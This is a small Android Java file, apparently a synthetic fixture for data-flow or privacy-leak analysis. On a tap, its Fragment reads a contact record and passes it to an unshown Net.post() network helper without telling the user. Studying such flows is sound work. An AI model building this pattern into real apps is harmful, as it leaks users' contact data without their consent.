package com.example.flows.fragment;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

public class Page extends Fragment {
    @Override
    public View onCreateView(LayoutInflater inflater, ViewGroup parent, Bundle state) {
        TextView view = new TextView(getActivity());
        view.setOnClickListener(new View.OnClickListener() {
            @Override
            public void onClick(View clicked) { Net.post(names()); }
        });
        return view;
    }
    String names() {
        Cursor cursor = getActivity().getContentResolver().query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
        return cursor.moveToFirst() ? cursor.getString(0) : "";
    }
}
